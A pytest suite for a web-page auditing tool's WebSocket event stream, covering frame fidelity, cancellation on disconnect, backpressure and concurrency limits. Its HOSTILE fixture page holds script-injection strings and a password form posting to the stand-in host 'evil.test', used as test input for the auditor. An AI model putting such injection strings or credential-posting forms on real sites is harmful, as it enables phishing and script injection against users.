"""The WebSocket stream with real children: the frames are the audit's events, a client that
goes away cancels its audit, a slow client makes the child wait, the concurrency limit holds.
Which transport delivered the events is read from the ``ipc_outcome`` frame, never assumed."""

from __future__ import annotations

import asyncio
import base64
import itertools
import json
import sqlite3
import tempfile
import threading
import time
import uuid
from pathlib import Path
from typing import Any

import psutil
import pytest
import websockets

import veritas.parent.runner as runner_module
from veritas.parent.collect import collect
from veritas.parent.mode import Mode
from veritas.parent.runner import AuditRunner

from .support import LiveServer, Received, read_slowly, receive

pytestmark = pytest.mark.slow  # real audit children

MODES: list[Mode] = ["queue", "stdout"]


def marked(mark: str) -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter():
        try:
            if proc.environ().get("VERITAS_TEST_MARK") == mark:
                found.append(proc)
        except psutil.Error:
            continue
    return found


def attests(got: Received, mode: str, events: int) -> None:
    assert got.close_code == 1000
    assert got.outcome is not None
    other = "stdout" if mode == "queue" else "queue"
    assert got.outcome["mode_used"] == mode, got.outcome
    assert got.outcome["fallback"] is False, got.outcome
    assert got.outcome["events_by_transport"] == {mode: events, other: 0}
    assert [e["seq"] for e in got.events] == list(range(events))


def comparable(event: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in event.items() if k not in ("audit_id", "timestamp")}


def as_a_utf16_client_reads(value: Any) -> Any:
    """A high and a low surrogate emitted as two code points reach a WebSocket client as the
    one character they spell (the documented limit of the frames)."""
    if isinstance(value, str):
        return value.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")
    if isinstance(value, dict):
        return {k: as_a_utf16_client_reads(v) for k, v in value.items()}
    if isinstance(value, list):
        return [as_a_utf16_client_reads(v) for v in value]
    return value


HOSTILE = """<!doctype html><html><head><title>&lt;img src=x onerror=alert(1)&gt; Free \u202eprize</title>
<meta name="description" content="<script>alert('x')</script>"></head>
<body><h1>Only 2 left! Offer ends in 00:59</h1><form action="http://evil.test/login" method="post">
<input type="password" name="p"></form><p>Hello</p></body></html>"""


@pytest.mark.parametrize("mode", MODES)
def test_the_frames_are_the_events_the_cli_delivers(
    serve: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: Mode
) -> None:
    monkeypatch.setenv("VERITAS_RENDERER", "pillow")
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE, encoding="utf-8")
    server: LiveServer = serve()
    for url in (page.as_uri(), "synthetic:?events=60&png=3&unicode=1"):
        got = asyncio.run(receive(server.ws_url(server.start_audit(url, ipc=mode))))
        expected = asyncio.run(collect(AuditRunner(url, mode=mode)))  # what `veritas audit` gets
        attests(got, mode, len(expected.events))
        for frame, event in zip(got.events, expected.events, strict=True):
            want = event.as_dict()
            if event.data is not None:
                assert base64.b64decode(frame["data"]) == event.data
                want["data"] = frame["data"]
            assert comparable(frame) == as_a_utf16_client_reads(comparable(want))


@pytest.mark.parametrize("mode", MODES)
def test_a_client_that_goes_away_cancels_its_audit(
    serve: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    mark = uuid.uuid4().hex
    monkeypatch.setenv("VERITAS_TEST_MARK", mark)
    tmpdirs: list[str] = []
    real_mkdtemp = tempfile.mkdtemp

    def recording_mkdtemp(*args: Any, **kwargs: Any) -> str:
        path = str(real_mkdtemp(*args, **kwargs))
        if Path(path).name.startswith("veritas-audit-"):
            tmpdirs.append(path)
        return path

    monkeypatch.setattr(tempfile, "mkdtemp", recording_mkdtemp)
    server: LiveServer = serve()
    audit_id = server.start_audit("synthetic:?events=2000&rate=50&spawn=2", ipc=mode)

    async def read_some_then_leave() -> tuple[list[psutil.Process], bool]:
        async with websockets.connect(server.ws_url(audit_id)) as ws:
            for _ in range(10):
                await ws.recv()
            return marked(mark), bool(tmpdirs) and all(Path(d).exists() for d in tmpdirs)

    alive, had_tmpdir = asyncio.run(read_some_then_leave())
    left = time.monotonic()
    assert len(alive) == 3, alive  # the child and the two processes it started
    assert had_tmpdir
    status = server.wait_status(audit_id, "cancelled")
    assert status["status"] == "cancelled", status
    assert status["ipc_outcome"]["events_by_transport"][mode] >= 10
    deadline = time.monotonic() + 5
    while marked(mark) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marked(mark) == [], "a process of the cancelled audit survived"
    assert not any(Path(d).exists() for d in tmpdirs)
    took = time.monotonic() - left
    assert took < 5, f"cleaning up took {took:.1f}s"
    with sqlite3.connect(tmp_path / "metrics.sqlite3") as db:
        rows = db.execute("SELECT state FROM audits WHERE audit_id = ?", (audit_id,)).fetchall()
    assert rows == [("cancelled",)]
    _, text = server.request("GET", "/metrics")
    assert (
        f'mode_requested="{mode}",mode_used="{mode}",outcome="cancelled",purpose="production"}} 1.0'
        in text
    )


class PeakRss:
    """The highest resident set size of this process (the backend runs in it) while running."""

    def __init__(self) -> None:
        self.me = psutil.Process()
        self.base = self.peak = self.me.memory_info().rss
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stopped.wait(0.02):
            self.peak = max(self.peak, self.me.memory_info().rss)

    def stop(self) -> int:
        self.stopped.set()
        self.thread.join()
        return self.peak - self.base


SLOW_STREAM = "synthetic:?events=2000&payload=30000"  # 60 MB of screenshot bytes


@pytest.mark.parametrize("mode", MODES)
def test_a_slow_client_makes_the_child_wait_without_failover_or_loss(
    serve: Any, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    backlog = [0]
    put_stdout = runner_module._Run._put_stdout

    def recording(run: Any, events: Any, size: int) -> None:
        put_stdout(run, events, size)
        backlog[0] = max(backlog[0], run.stdout_backlog)

    monkeypatch.setattr(runner_module._Run, "_put_stdout", recording)
    # The child gives up on a parent it has not heard from for 2 s; the client reads one
    # frame per 200 ms for 5 s.
    server: LiveServer = serve(put_timeout=2.0)
    audit_id = server.start_audit(SLOW_STREAM, ipc=mode)
    rss = PeakRss()
    got = read_slowly(server.ws_url(audit_id), delay=0.2, slow_frames=25)
    growth = rss.stop()
    attests(got, mode, 2000)
    assert [e["data"] for e in got.events[1:-1]] == [30000] * 1998
    # The child itself was held up longer than put_timeout (its emit waited), and went on.
    stamps = [e["timestamp"] for e in got.events]
    assert max(b - a for a, b in itertools.pairwise(stamps)) > 2.0
    # This process buffered a bounded amount, far less than the stream: the child waited.
    assert backlog[0] <= runner_module.STDOUT_BACKLOG + (1 << 20)
    assert growth < 60 << 20, f"the backend grew by {growth >> 20} MB"


def test_at_most_max_concurrent_audits_run_and_no_event_crosses_audits(serve: Any) -> None:
    server: LiveServer = serve(max_concurrent=4)
    registry = server.app.state.registry
    modes = [MODES[i % 2] for i in range(16)]
    ids = [server.start_audit(f"synthetic:?events=40&rate=80&png={i % 3}", ipc=m)
           for i, m in enumerate(modes)]  # fmt: skip
    seen = {"running": 0, "waiting": 0}
    stop = threading.Event()

    def sample() -> None:
        while not stop.wait(0.005):
            seen["running"] = max(seen["running"], registry.running)
            seen["waiting"] = max(seen["waiting"], registry.waiting)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()

    async def all_at_once() -> list[Received]:
        return list(await asyncio.gather(*(receive(server.ws_url(i)) for i in ids)))

    results = asyncio.run(all_at_once())
    stop.set()
    sampler.join()
    assert seen == {"running": 4, "waiting": 12}
    for audit_id, mode, got in zip(ids, modes, results, strict=True):
        attests(got, mode, 40)
        assert {e["audit_id"] for e in got.events} == {audit_id}


def test_a_client_that_leaves_while_waiting_for_a_slot_cancels_before_any_child(
    serve: Any,
) -> None:
    server: LiveServer = serve(max_concurrent=1)
    busy = server.start_audit("synthetic:?events=60&rate=40", ipc="queue")
    waiting = server.start_audit("synthetic:?events=10", ipc="queue")

    async def scenario() -> Received:
        first = asyncio.create_task(receive(server.ws_url(busy)))
        await asyncio.sleep(0.3)
        async with websockets.connect(server.ws_url(waiting)):
            await asyncio.sleep(0.3)
        return await first

    first = asyncio.run(scenario())
    attests(first, "queue", 60)
    status = server.wait_status(waiting, "cancelled")
    assert status["status"] == "cancelled" and status["ipc_outcome"] is None
    assert json.dumps(status).count("before the audit began") == 1


@pytest.mark.parametrize("mode", MODES)
def test_the_backend_streams_an_engine_from_outside(
    serve: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: Mode
) -> None:
    examples = Path(__file__).resolve().parents[3] / "examples" / "engines"
    monkeypatch.setenv("PYTHONPATH", str(examples))
    server = serve(engine="sitecheck:audit")
    page = tmp_path / "page.html"
    page.write_text("<title>Bakery</title><form action='http://x/'><input type=password></form>")
    got = asyncio.run(receive(server.ws_url(server.start_audit(page.as_uri(), ipc=mode))))
    attests(got, mode, len(got.events))
    assert [e["phase"] for e in got.events][:2] == ["fetch", "fetch"]
    assert got.events[-1]["type"] == "audit_complete"
    assert got.events[-1]["summary"]["title"] == "Bakery"
    assert any(e["type"] == "screenshot" and e["data"] for e in got.events)
